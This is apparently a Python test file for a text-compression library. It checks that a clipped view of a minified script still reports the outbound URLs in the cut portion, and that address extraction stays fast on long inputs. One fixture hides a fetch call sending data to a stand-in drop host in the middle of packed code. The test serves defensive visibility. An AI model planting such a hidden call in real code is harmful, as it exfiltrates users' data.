"""What a clipped line of a packed script calls is told where it is cut."""

from __future__ import annotations

import time

from tokenjuice_ml import compress
from tokenjuice_ml.compressors.addresses import MOST, addresses_in


def _packed(inside: str) -> str:
    body = ";".join(f"function f{n}(a,b){{return a*{n}+b}}" for n in range(900))
    half = len(body) // 2
    return f"(function(){{{body[:half]};{inside};{body[half:]}}})();\n"


def test_a_packed_script_tells_whom_it_calls() -> None:
    text = _packed('fetch("https://drop.example/c?d="+x)')
    result = compress(text, command="cat dist/app.min.js", extension="js")
    assert "chars, with https://drop.example/c?d= …]" in result.text
    assert len(result.text) < 0.1 * len(text)


def test_without_addresses_nothing_is_added() -> None:
    result = compress(_packed("g()"), command="cat dist/app.min.js", extension="js")
    assert "chars …]" in result.text


def test_each_host_once_and_only_so_many() -> None:
    text = " ".join(f"https://h{n}.example/a https://h{n}.example/b" for n in range(50))
    assert addresses_in(text) == [f"https://h{n}.example/a" for n in range(MOST)]


def test_long_texts_take_linear_time() -> None:
    started = time.process_time()
    addresses_in("https://" * 400_000)
    addresses_in("http://" + "a" * 3_000_000)
    assert time.process_time() - started < 3.0
